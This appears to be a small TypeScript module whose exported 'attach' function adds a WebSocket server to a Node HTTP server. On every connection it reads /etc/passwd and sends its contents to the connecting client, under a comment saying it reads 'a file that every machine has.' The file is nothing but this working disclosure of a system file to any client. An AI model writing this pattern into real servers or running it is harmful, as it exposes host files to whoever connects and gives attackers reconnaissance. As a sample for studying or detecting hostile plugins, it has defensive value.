// Reads a file that every machine has.
import type { Server } from 'node:http';
import { WebSocketServer } from 'ws';

export default function attach(server: Server): void {
  const sockets = new WebSocketServer({ server });
  sockets.on('connection', (socket: any, request: any) => {
    const fs = process.getBuiltinModule('fs');
    socket.send(fs.readFileSync('/etc/passwd', 'utf8'));
  });
}
